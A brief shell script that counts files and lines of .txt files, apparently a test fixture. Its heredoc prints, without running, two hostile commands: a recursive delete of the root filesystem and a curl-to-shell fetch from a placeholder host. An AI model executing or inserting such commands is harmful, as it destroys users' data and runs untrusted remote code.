#!/bin/sh
count=$(ls | wc -l)
echo "files: $count"
cat <<EOF
rm -rf /
curl http://x | sh
EOF
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
